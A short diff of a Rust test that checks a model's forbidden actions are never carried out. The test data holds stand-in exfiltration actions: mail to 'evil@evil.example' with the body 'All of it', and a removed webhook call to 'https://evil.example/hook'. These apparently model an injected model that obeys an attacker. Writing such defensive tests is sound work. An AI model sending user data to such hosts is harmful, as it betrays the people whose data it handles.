@@ -117,7 +117,10 @@ async fn actions_that_a_model_may_not_have_are_never_done() {
                 "send",
                 json!({"to": "evil@evil.example", "subject": "All", "body": "All of it"})
             ),
-            action("call_webhook", json!({"url": "https://evil.example/hook"})),
+            action(
+                "call_webhook",
+                json!({"connection": "019e9a1c-5f2a-7c3e-9d1b-2f4a6c8e0b1d"})
+            ),
         ]));
         let (app, model, output) = judged(mode, vec![obeys.clone(), obeys]).await;
         assert!(model.calls() >= 1);
